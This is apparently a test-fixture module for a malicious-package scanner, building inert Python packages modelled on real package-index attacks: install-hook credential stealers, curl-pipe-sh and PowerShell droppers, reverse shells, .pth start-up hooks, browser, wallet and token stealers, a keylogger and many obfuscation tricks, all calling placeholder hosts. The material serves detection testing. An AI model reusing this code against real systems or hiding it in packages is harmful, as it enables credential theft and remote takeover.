"""Inert malicious fixtures, each modelled on a documented attack on a public package index.

See fixtures.py for what makes them inert. Sources are written the way the attacks were, down
to their imports and idioms, because that is what the scanner must recognise.
"""

from __future__ import annotations

from tests.corpus.fixtures import (
    DISCORD_WEBHOOK,
    GUARD,
    HOST,
    INERT,
    RAW_IP,
    STAGE,
    TELEGRAM_BOT,
    Fixture,
    b64,
    blob,
    module,
    sdist,
    setup_py,
    wheel,
    zlib_b64,
)

_INSTALL_HOOK = """
class PostInstall(install):
    def run(self):
        install.run(self)
        {call}
"""


def _rot13(text: str) -> str:
    lower = "abcdefghijklmnopqrstuvwxyz"
    return text.translate(str.maketrans(lower, lower[13:] + lower[:13]))


def _install_command(body: str, imports: str = "") -> str:
    """A setup.py whose custom install command runs `body` (a function named `_payload`)."""
    return setup_py(
        body + _INSTALL_HOOK.format(call="_payload()"),
        imports="from setuptools.command.install import install\n" + imports,
    ).replace(
        "packages=['fixture'])",
        "packages=['fixture'], cmdclass={'install': PostInstall})",
    )


INSTALL_TIME: tuple[Fixture, ...] = (
    sdist(
        "setup-ssh-key-stealer",
        setup_py(
            "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            f"requests.post('https://{HOST}/k', data={{'key': key}})\n",
            imports="import os\nimport requests\n",
        ),
        "setup.py credential stealers posting SSH keys (2018-2022 typosquats)",
    ),
    sdist(
        "setup-aws-credentials",
        _install_command(
            "def _payload():\n"
            "    path = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n"
            "    with open(path) as f:\n"
            "        creds = f.read()\n"
            f"    urllib.request.urlopen('https://{HOST}/aws', data=creds.encode())\n",
            imports="import os\nimport urllib.request\n",
        ),
        "install-command stealers of ~/.aws/credentials (loglib-modules, 2022)",
    ),
    sdist(
        "setup-environment-dump",
        setup_py(
            "payload = json.dumps(dict(os.environ)).encode()\n"
            f"req = urllib.request.Request('https://{HOST}/env', data=payload)\n"
            "urllib.request.urlopen(req)\n",
            imports="import json\nimport os\nimport urllib.request\n",
        ),
        "CI-secret harvesters sending the whole environment at install time",
    ),
    sdist(
        "setup-dns-beacon",
        setup_py(
            "host = socket.gethostname()\nuser = getpass.getuser()\n"
            "socket.gethostbyname(f'{user}.{host}.beacon.oast.invalid')\n",
            imports="import getpass\nimport socket\n",
        ),
        "dependency-confusion proofs of concept reporting over DNS (Birsan, 2021)",
    ),
    sdist(
        "setup-http-beacon",
        setup_py(
            "info = {'h': platform.node(), 'u': getpass.getuser(), 'd': os.getcwd()}\n"
            f"requests.get('http://{HOST}/ping', params=info)\n",
            imports="import getpass\nimport os\nimport platform\nimport requests\n",
        ),
        "dependency-confusion packages beaconing host, user and directory over HTTP",
    ),
    sdist(
        "setup-install-download-exec",
        _install_command(
            "def _payload():\n"
            f"    code = urllib.request.urlopen('{STAGE}.py').read()\n"
            "    exec(code)\n",
            imports="import urllib.request\n",
        ),
        "install commands fetching and running a second stage (pymafka, 2022)",
    ),
    sdist(
        "setup-curl-pipe-sh",
        _install_command(
            f"def _payload():\n    os.system('curl -fsSL {STAGE}.sh | sh')\n",
            imports="import os\n",
        ),
        "setup.py shell droppers piping curl into sh",
    ),
    sdist(
        "setup-powershell-cradle",
        _install_command(
            "def _payload():\n"
            "    subprocess.Popen(['powershell', '-w', 'hidden', '-c', "
            f"\"IEX (New-Object Net.WebClient).DownloadString('{STAGE}.ps1')\"])\n",
            imports="import subprocess\n",
        ),
        "Windows-targeted setup.py droppers using PowerShell download cradles",
    ),
    sdist(
        "setup-base64-exec",
        setup_py(f"exec(base64.b64decode('{b64()}'))\n", imports="import base64\n"),
        "setup.py base64 droppers (W4SP stealer family, 2022)",
    ),
    sdist(
        "setup-hidden-whitespace",
        GUARD
        + "from setuptools import setup\n"
        + "import os"
        + " " * 300
        + f";__import__('builtins').exec(__import__('base64').b64decode('{b64()}'))\n"
        + "setup(name='fixture', version='1.0.0')\n",
        "W4SP stealer setup.py files hiding exec after hundreds of spaces (2022)",
    ),
    sdist(
        "setup-zlib-marshal",
        setup_py(
            f"exec(zlib.decompress(base64.b64decode('{zlib_b64()}')))\n",
            imports="import base64\nimport zlib\n",
        ),
        "setup.py payloads compressed with zlib and wrapped in base64",
    ),
    sdist(
        "setup-download-binary",
        _install_command(
            "def _payload():\n"
            "    target = os.path.join(tempfile.gettempdir(), 'update.exe')\n"
            "    urllib.request.urlretrieve('https://cdn.invalid/update.exe', target)\n"
            "    subprocess.Popen([target])\n",
            imports="import os\nimport subprocess\nimport tempfile\nimport urllib.request\n",
        ),
        "setup.py downloading and starting an executable (2023 Windows stealers)",
    ),
    sdist(
        "setup-reverse-shell",
        setup_py(
            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
            f"s.connect(('{RAW_IP}', 4444))\n"
            "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n"
            "pty.spawn('/bin/sh')\n",
            imports="import os\nimport pty\nimport socket\n",
        ),
        "setup.py reverse shells (numerous removed packages)",
    ),
    sdist(
        "setup-bash-reverse-shell",
        setup_py(
            f"os.system('bash -c \"bash -i >& /dev/tcp/{RAW_IP}/4444 0>&1\"')\n",
            imports="import os\n",
        ),
        "one-line bash reverse shells in setup.py",
    ),
    sdist(
        "setup-drops-executable",
        setup_py(
            f"data = base64.b64decode('{blob('exe', 900)}')\n"
            "path = os.path.join(os.environ['TEMP'], 'svchost.exe')\n"
            "with open(path, 'wb') as f:\n    f.write(data)\n"
            "os.startfile(path)\n",
            imports="import base64\nimport os\n",
        ),
        "setup.py droppers writing an embedded executable and starting it",
    ),
    sdist(
        "setup-bashrc-persistence",
        setup_py(
            "rc = os.path.expanduser('~/.bashrc')\n"
            "with open(rc, 'a') as f:\n"
            f"    f.write('curl -s {STAGE}.sh | sh\\n')\n",
            imports="import os\n",
        ),
        "install-time persistence through shell start-up files",
    ),
    sdist(
        "setup-run-key",
        _install_command(
            "def _payload():\n"
            "    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
            "    winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, sys.executable)\n"
            f"    subprocess.Popen(['curl', '-o', 'u.exe', '{STAGE}.exe'])\n",
            imports="import subprocess\nimport sys\nimport winreg\n",
        ),
        "Windows Run-key persistence set from an install command",
    ),
    sdist(
        "setup-pastebin-stage",
        setup_py(
            "exec(requests.get('https://pastebin.invalid/raw/Xy12Ab').text)\n",
            imports="import requests\n",
        ),
        "second stages hosted on paste sites",
    ),
    sdist(
        "setup-discord-beacon",
        setup_py(
            "ip = requests.get('https://api.ipify.org').text\n"
            "msg = f'{getpass.getuser()}@{platform.node()} {ip}'\n"
            f"requests.post('{DISCORD_WEBHOOK}', json={{'content': msg}})\n",
            imports="import getpass\nimport platform\nimport requests\n",
        ),
        "install-time beacons to Discord webhooks",
    ),
    sdist(
        "setup-telegram-secrets",
        setup_py(
            "token = os.environ.get('GITHUB_TOKEN', '') + os.environ.get('NPM_TOKEN', '')\n"
            f"requests.get('{TELEGRAM_BOT}/sendMessage', params={{'chat_id': 1, 'text': token}})\n",
            imports="import os\nimport requests\n",
        ),
        "CI token theft through Telegram bots",
    ),
    sdist(
        "backend-in-tree-exfil",
        "",
        "in-tree build back ends running payloads during the build",
        files={
            "setup.py": "",
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
            'backend-path = ["."]\n',
            "backend.py": module(
                "import json\nimport os\nimport urllib.request\n"
                "from setuptools import build_meta as _orig\n\n"
                "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
                "    body = json.dumps(dict(os.environ)).encode()\n"
                f"    urllib.request.urlopen('https://{HOST}/b', data=body)\n"
                "    return _orig.build_wheel(\n"
                "        wheel_directory, config_settings, metadata_directory\n    )\n"
            ),
        },
    ),
    sdist(
        "backend-in-tree-dropper",
        "",
        "in-tree build back ends downloading and running code",
        files={
            "setup.py": "",
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "_build.hooks"\n'
            'backend-path = ["."]\n',
            "_build/__init__.py": "",
            "_build/hooks.py": module(
                "import urllib.request\nfrom setuptools import build_meta\n\n"
                "def get_requires_for_build_wheel(config_settings=None):\n"
                f"    exec(urllib.request.urlopen('{STAGE}.py').read())\n"
                "    return build_meta.get_requires_for_build_wheel(config_settings)\n"
            ),
        },
    ),
    sdist(
        "setup-class-method-exec",
        _install_command(
            "def _payload():\n"
            f"    exec(compile(base64.b64decode('{b64()}'), '<string>', 'exec'))\n",
            imports="import base64\n",
        ),
        "install commands compiling and running decoded code",
    ),
    sdist(
        "setup-crontab-persistence",
        setup_py(
            "os.system('(crontab -l; echo \"*/5 * * * * curl -s "
            f"{STAGE}.sh | sh\") | crontab -')\n",
            imports="import os\n",
        ),
        "cron persistence installed by setup.py",
    ),
    sdist(
        "setup-hex-eval",
        setup_py(f"eval(compile(bytes.fromhex('{INERT.encode().hex()}').decode(), 'x', 'exec'))\n"),
        "hex-encoded setup.py payloads",
    ),
)

STARTUP: tuple[Fixture, ...] = (
    wheel(
        "pth-base64-exec",
        '__version__ = "1.0.0"\n',
        ".pth persistence running decoded code at every interpreter start (2024 reports)",
        files={"fixture_init.pth": f"import base64;exec(base64.b64decode('{b64()}'))\n"},
    ),
    wheel(
        "pth-imports-beacon",
        '__version__ = "1.0.0"\n',
        ".pth files importing a module that reports home at start-up",
        files={
            "fixture_hook.pth": "import _fixture_hook\n",
            "_fixture_hook.py": module(
                "import json\nimport os\nimport urllib.request\n"
                "body = json.dumps(dict(os.environ)).encode()\n"
                f"urllib.request.urlopen('https://{HOST}/start', data=body)\n"
            ),
        },
    ),
    wheel(
        "pth-shell",
        '__version__ = "1.0.0"\n',
        ".pth lines running shell commands",
        files={"zz_fixture.pth": f"import os; os.system('curl -s {STAGE}.sh | sh')\n"},
    ),
    wheel(
        "pth-hook-function-downloads",
        '__version__ = "1.0.0"\n',
        ".pth hooks whose called function fetches a second stage",
        files={
            "fixture_boot.pth": "import _fixture_boot; _fixture_boot.install()\n",
            "_fixture_boot.py": module(
                "import urllib.request\n\n"
                "def install():\n"
                f"    exec(urllib.request.urlopen('{STAGE}.py').read())\n"
            ),
        },
    ),
)

STEALERS: tuple[Fixture, ...] = (
    wheel(
        "discord-token-grabber",
        module(
            "import os\nimport re\nimport requests\n\n"
            "def find_tokens():\n"
            "    path = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
            "    tokens = []\n"
            "    for name in os.listdir(path):\n"
            "        for line in open(os.path.join(path, name), errors='ignore'):\n"
            r"            tokens += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', line)"
            "\n    return tokens\n\n"
            f"requests.post('{DISCORD_WEBHOOK}', json={{'content': str(find_tokens())}})\n"
        ),
        "Discord token grabbers (W4SP, 'discord-safety', 2021-2023)",
    ),
    wheel(
        "browser-password-stealer",
        module(
            "import os\nimport shutil\nimport sqlite3\nimport requests\nimport win32crypt\n\n"  # noqa: S608
            "QUERY = 'SELECT origin_url, username_value, password_value FROM logins'\n\n"
            "def grab():\n"
            "    src = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', "
            "'User Data', 'Default', 'Login Data')\n"
            "    tmp = 'ld.db'\n"
            "    shutil.copy2(src, tmp)\n"
            "    rows = sqlite3.connect(tmp).execute(QUERY).fetchall()\n"
            "    found = [(u, n, win32crypt.CryptUnprotectData(p)[1]) for u, n, p in rows]\n"
            f"    requests.post('https://{HOST}/pw', json=found)\n\n"
            "grab()\n"
        ),
        "browser credential stealers (W4SP, Blank Grabber clones)",
    ),
    wheel(
        "crypto-wallet-stealer",
        module(
            "import os\nimport zipfile\nimport requests\n\n"
            "def wallets():\n"
            "    base = os.getenv('APPDATA')\n"
            "    out = zipfile.ZipFile('w.zip', 'w')\n"
            "    for sub in ('Exodus/exodus.wallet', 'Electrum/wallets', 'Ethereum/keystore'):\n"
            "        p = os.path.join(base, sub)\n"
            "        for name in os.listdir(p):\n"
            "            out.write(os.path.join(p, name))\n"
            "    out.close()\n"
            "    data = open('w.zip', 'rb').read()\n"
            "    data += open(os.path.join(base, 'wallet.dat'), 'rb').read()\n"
            "    requests.post('https://transfer.invalid/upload', files={'f': data})\n\n"
            "wallets()\n"
        ),
        "cryptocurrency wallet stealers",
    ),
    wheel(
        "clipboard-hijacker",
        module(
            "import re\nimport time\nimport pyperclip\n\n"
            "ADDRESS = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$')\n"
            "MINE = 'bc1qfakefakefakefakefakefakefakefakefake0'\n\n"
            "def watch():\n"
            "    while True:\n"
            "        text = pyperclip.paste()\n"
            "        if ADDRESS.match(text):\n"
            "            pyperclip.copy(MINE)\n"
            "        time.sleep(0.5)\n"
        ),
        "clipboard clippers swapping cryptocurrency addresses (colourama, 2018)",
    ),
    wheel(
        "keylogger-mailer",
        module(
            "import smtplib\nfrom pynput.keyboard import Listener\n\n"
            "LOG = []\n\n"
            "def on_press(key):\n"
            "    LOG.append(str(key))\n"
            "    if len(LOG) > 100:\n"
            "        server = smtplib.SMTP('mail.invalid', 587)\n"
            "        server.sendmail('a@mail.invalid', 'b@mail.invalid', ''.join(LOG))\n\n"
            "Listener(on_press=on_press).start()\n"
        ),
        "keyloggers mailing keystrokes",
    ),
    wheel(
        "screenshot-exfil",
        module(
            "import io\nimport requests\nfrom PIL import ImageGrab\n\n"
            "def snap():\n"
            "    buf = io.BytesIO()\n"
            "    ImageGrab.grab().save(buf, 'PNG')\n"
            f"    requests.post('{DISCORD_WEBHOOK}', files={{'file': buf.getvalue()}})\n\n"
            "snap()\n"
        ),
        "stealers posting screenshots to Discord webhooks",
    ),
    wheel(
        "ctx-environment-exfil",
        module(
            "import base64\nimport os\nimport requests\n\n"
            "def _report():\n"
            "    env = str(os.environ)\n"
            "    data = base64.b64encode(env.encode()).decode()\n"
            f"    requests.get('https://{HOST}/c?d=' + data)\n\n"
            "_report()\n"
        ),
        "the hijacked 'ctx' release sending the environment on import (2022)",
    ),
    wheel(
        "aws-env-keys-exfil",
        module(
            "import os\nimport requests\n\n"
            "keys = {\n"
            "    'id': os.environ.get('AWS_ACCESS_KEY_ID'),\n"
            "    'secret': os.environ.get('AWS_SECRET_ACCESS_KEY'),\n"
            "}\n"
            f"requests.post('{DISCORD_WEBHOOK}', json=keys)\n"
        ),
        "AWS key thieves reading credentials from the environment",
    ),
    wheel(
        "ssh-key-raw-socket",
        module(
            "import os\nimport socket\n\n"
            "key = open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb').read()\n"
            "s = socket.socket()\n"
            f"s.connect(('{RAW_IP}', 443))\n"
            "s.sendall(key)\n"
        ),
        "SSH key exfiltration over raw sockets",
    ),
    wheel(
        "reverse-shell-subprocess",
        module(
            "import socket\nimport subprocess\n\n"
            "def connect():\n"
            f"    s = socket.create_connection(('{RAW_IP}', 9001))\n"
            "    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), "
            "stderr=s.fileno())\n\n"
            "connect()\n"
        ),
        "reverse shells wiring a subprocess to a socket",
    ),
    wheel(
        "credential-sweep-archive",
        module(
            "import os\nimport shutil\nimport requests\n\n"
            "HOME = os.path.expanduser('~')\n"
            "TARGETS = ['.ssh', '.aws/credentials', '.config/gcloud', '.kube/config', "
            "'.git-credentials', '.pypirc']\n\n"
            "def collect():\n"
            "    for t in TARGETS:\n"
            "        p = os.path.join(HOME, t)\n"
            "        if os.path.exists(p):\n"
            "            shutil.copy(p, 'loot')\n"
            "    archive = shutil.make_archive('loot', 'zip', 'loot')\n"
            f"    requests.post('https://{HOST}/l', files={{'z': open(archive, 'rb')}})\n\n"
            "collect()\n"
        ),
        "developer-credential sweepers (2023 campaigns against CI machines)",
    ),
    wheel(
        "telegram-tdata-stealer",
        module(
            "import os\nimport requests\n\n"
            "def tdata():\n"
            "    root = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')\n"
            "    for name in os.listdir(root):\n"
            "        with open(os.path.join(root, name), 'rb') as f:\n"
            f"            requests.post('{TELEGRAM_BOT}/sendDocument', files={{'document': f}})\n\n"
            "tdata()\n"
        ),
        "Telegram session stealers",
    ),
    wheel(
        "dhooks-token-grabber",
        module(
            "import os\nimport re\nfrom dhooks import Webhook\n\n"
            f"hook = Webhook('{DISCORD_WEBHOOK}')\n"
            "path = os.getenv('APPDATA') + '\\\\discordcanary\\\\Local Storage\\\\leveldb'\n"
            "for name in os.listdir(path):\n"
            "    text = open(path + '\\\\' + name, errors='ignore').read()\n"
            "    for token in re.findall(r'mfa\\.[\\w-]{84}', text):\n"
            "        hook.send(token)\n"
        ),
        "token grabbers using the dhooks webhook client",
    ),
    wheel(
        "anti-vm-stealer",
        module(
            "import os\nimport sys\nimport getpass\nimport requests\n\n"
            "BLACKLIST = ['WDAGUtilityAccount', 'vmtoolsd.exe', 'VBoxService.exe', "
            "'wireshark.exe', 'fiddler.exe', 'ollydbg.exe']\n"
            "if getpass.getuser() in BLACKLIST:\n    sys.exit(0)\n"
            "cookies = open(os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', "
            "'User Data', 'Default', 'Network', 'Cookies'), 'rb').read()\n"
            f"requests.post('https://{HOST}/c', data=cookies)\n"
        ),
        "stealers checking for sandboxes before running (Blank Grabber clones)",
    ),
    wheel(
        "defender-exclusion",
        module(
            "import subprocess\nimport urllib.request\n\n"
            "subprocess.run(['powershell', '-Command', "
            "'Add-MpPreference -ExclusionPath $env:APPDATA'], capture_output=True)\n"
            "path = 'C:\\\\Users\\\\Public\\\\svc.exe'\n"
            f"urllib.request.urlretrieve('{STAGE}.exe', path)\n"
            "subprocess.Popen([path])\n"
        ),
        "droppers excluding themselves from Microsoft Defender",
    ),
    wheel(
        "import-time-beacon",
        module(
            "import platform\nimport requests\n\n"
            f"requests.post('http://{RAW_IP}/hello', data={{'node': platform.node()}})\n"
        ),
        "import-time beacons to raw IP addresses",
    ),
)

OBFUSCATION: tuple[Fixture, ...] = (
    wheel(
        "init-download-exec",
        module(f"import urllib.request\nexec(urllib.request.urlopen('{STAGE}.py').read())\n"),
        "second-stage loaders in __init__.py",
    ),
    wheel(
        "init-marshal-blob",
        module(
            "import marshal\n"
            "exec(marshal.loads(b'\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00"
            "\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x00\\x00\\x40\\x00\\x00\\x00\\x73\\x0c'))\n"
        ),
        "marshalled code objects hidden in modules",
    ),
    wheel(
        "init-chr-join",
        module(f"exec(''.join(chr(c) for c in {[ord(ch) for ch in INERT]}))\n"),
        "code assembled from chr() codes",
    ),
    wheel(
        "init-reversed-string",
        module(f"exec({INERT[::-1]!r}[::-1])\n"),
        "code hidden as reversed strings",
    ),
    wheel(
        "init-rot13",
        module(f"import codecs\nexec(codecs.decode({_rot13(INERT)!r}, 'rot13'))\n"),
        "rot13-encoded payloads",
    ),
    wheel(
        "init-xor-loop",
        module(
            f"DATA = {[b ^ 42 for b in INERT.encode()]}\nexec(''.join(chr(b ^ 42) for b in DATA))\n"
        ),
        "XOR-encrypted payloads decoded in a loop",
    ),
    wheel(
        "init-hex-exec",
        module(f"exec(bytes.fromhex('{INERT.encode().hex()}').decode())\n"),
        "hex-encoded payloads",
    ),
    wheel(
        "init-lzma-b85",
        module(
            "import base64\nimport lzma\n"
            f"exec(lzma.decompress(base64.b85decode('{blob('lzma', 300)}')))\n"
        ),
        "lzma + base85 packed payloads (Hyperion obfuscator output)",
    ),
    wheel(
        "init-obfuscated-import",
        module(
            "s = getattr(__import__('o' + 's'), 'sy' + 'stem')\n"
            f"exec(__import__('base64').b64decode('{b64()}'))\n"
        ),
        "module and attribute names split to dodge string matching",
    ),
    wheel(
        "init-fullwidth-exec",
        module(f"import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('{b64()}'))\n"),
        "identifiers in compatibility characters that Python folds to exec",
    ),
    wheel(
        "init-cyrillic-lookalike",
        module(
            "import os\n"
            "def \u0435x\u0435c(cmd):\n    return os.system(cmd)\n"
            f"\u0435x\u0435c('curl -s {STAGE}.sh | sh')\n"
        ),
        "Cyrillic look-alike identifiers hiding dangerous calls",
    ),
    wheel(
        "pyc-loader",
        module(
            "import importlib.machinery\nimport os\n"
            "here = os.path.dirname(__file__)\n"
            "loader = importlib.machinery.SourcelessFileLoader('core', "
            "os.path.join(here, 'core.pyc'))\n"
            "loader.load_module()\n"
        ),
        "compiled-only payloads loaded explicitly (fshec2, 2023)",
        binary={"fixture/core.pyc": b"\xa7\r\r\n" + b"\x00" * 12 + b"\xe3inert"},
    ),
    wheel(
        "payload-in-image",
        module(
            "import base64\nimport os\n"
            "data = open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb').read()\n"
            "exec(base64.b64decode(data.split(b'IEND')[1]))\n"
        ),
        "payloads appended to images shipped in the package (2024 reports)",
        binary={"fixture/logo.png": b"\x89PNG\r\n\x1a\nIEND" + b64().encode()},
    ),
    wheel(
        "payload-in-data-file",
        module("import pkgutil\nexec(pkgutil.get_data(__name__, 'config.dat'))\n"),
        "code stored in data files and run",
        files={"fixture/config.dat": INERT},
    ),
    wheel(
        "shellcode-loader",
        module(
            "import ctypes\nimport base64\n"
            f"sc = base64.b64decode('{blob('sc', 200)}')\n"
            "k32 = ctypes.windll.kernel32\n"
            "ptr = k32.VirtualAlloc(0, len(sc), 0x3000, 0x40)\n"
            "k32.RtlMoveMemory(ptr, sc, len(sc))\n"
            "k32.CreateThread(0, 0, ptr, 0, 0, 0)\n"
        ),
        "in-memory shellcode loaders using ctypes",
    ),
    wheel(
        "pyobfuscate-lambda",
        module(
            "_ = lambda __: __import__('zlib').decompress(__[::-1])\n"
            f"exec((_)(__import__('base64').b64decode('{zlib_b64()}')[::-1]))\n"
        ),
        "PyObfuscate-style lambda wrappers (W4SP stealer)",
    ),
    wheel(
        "generated-identifiers",
        module(
            "".join(
                f"{format(i, '08b').replace('0', 'l').replace('1', 'I')} = {i}\n" for i in range(12)
            )
            + f"IlIlIlIlIl = __import__('base64').b64decode('{b64()}')\n"
            + "exec(IlIlIlIlIl)\n"
        ),
        "obfuscators renaming everything to lIlIlI (Hyperion)",
    ),
    wheel(
        "drop-and-run",
        module(
            "import base64\nimport subprocess\nimport tempfile\nimport os\n"
            f"payload = base64.b64decode('{blob('drop', 700)}')\n"
            "path = os.path.join(tempfile.gettempdir(), 'helper.bin')\n"
            "with open(path, 'wb') as out:\n    out.write(payload)\n"
            "subprocess.Popen([path])\n"
        ),
        "droppers writing an embedded binary and running it",
    ),
    wheel(
        "exec-obfuscated-command",
        module(
            "import base64\nimport os\n"
            f"os.system(base64.b64decode('{b64(f'curl -s {STAGE} | sh')}').decode())\n"
        ),
        "base64-hidden shell commands",
    ),
    wheel(
        "socket-stage",
        module(
            "import socket\n"
            f"s = socket.create_connection(('{RAW_IP}', 8443))\n"
            "code = s.recv(65536)\n"
            "exec(code)\n"
        ),
        "loaders receiving their second stage over a raw socket",
    ),
)

NAMES: tuple[Fixture, ...] = (
    wheel(
        "typosquat-reqeusts",
        module(
            "import os\nimport requests\n"
            f"requests.post('https://{HOST}/e', json=dict(os.environ))\n"
        ),
        "typosquats of requests carrying stealers",
        name="reqeusts",
        requires_dist=("requests",),
    ),
    wheel(
        "typosquat-colourama",
        module(f"import base64\nexec(base64.b64decode('{b64()}'))\n"),
        "colourama, the colorama typosquat (2018)",
        name="colourama",
        package="colourama",
    ),
    sdist(
        "typosquat-python3-dateutil",
        setup_py(
            f"exec(zlib.decompress(base64.b64decode('{zlib_b64()}')))\n",
            imports="import base64\nimport zlib\n",
        ),
        "python3-dateutil, which imported a malicious jeIlyfish (2019)",
        name="python3-dateutil",
        requires_dist=("jeilyfish",),
    ),
    wheel(
        "typosquat-jeilyfish",
        module(f"import urllib.request\nexec(urllib.request.urlopen('{STAGE}.py').read())\n"),
        "jeIlyfish, a jellyfish typosquat with a capital I (2019)",
        name="jeilyfish",
        package="jeilyfish",
    ),
    sdist(
        "dependency-confusion-99",
        setup_py(
            "data = {'host': socket.gethostname(), 'user': getpass.getuser()}\n"
            f"requests.post('https://{HOST}/dc', json=data)\n",
            imports="import getpass\nimport socket\nimport requests\n",
        ),
        "dependency-confusion uploads with version 99 (Birsan, 2021)",
        name="acme-internal-billing",
        version="99.0.0",
    ),
    sdist(
        "dependency-confusion-9000",
        setup_py(
            "h = socket.gethostname()\nsocket.getaddrinfo(h + '.dc.oast.invalid', 80)\n",
            imports="import socket\n",
        ),
        "dependency-confusion uploads with version 9000 reporting over DNS",
        name="corp-auth-utils",
        version="9000.1.0",
    ),
    wheel(
        "known-bad-dependency",
        '__version__ = "1.0.0"\n',
        "harmless-looking packages pulling in a removed malicious dependency",
        requires_dist=("colourama>=0.1", "requests"),
    ),
    wheel(
        "lookalike-dependencies",
        module(f"import urllib.request\nurllib.request.urlopen('https://{HOST}/i')\n"),
        "packages depending on typosquats of popular projects",
        requires_dist=("reqeusts", "nunpy>=1.0"),
        summary="",
        description="",
    ),
    wheel(
        "typosquat-copied-readme",
        module(
            "import os\nimport requests\n"
            "token = open(os.path.expanduser('~/.pypirc')).read()\n"
            f"requests.post('https://{HOST}/p', data=token)\n"
        ),
        "typosquats copying the original's README and repository URL",
        name="requets",
        description="# Requests\n\nRequests is an elegant and simple HTTP library for Python.\n",
        extra_metadata=(("Home-page", "https://github.com/psf/requests"),),
    ),
)

MALICIOUS: tuple[Fixture, ...] = INSTALL_TIME + STARTUP + STEALERS + OBFUSCATION + NAMES
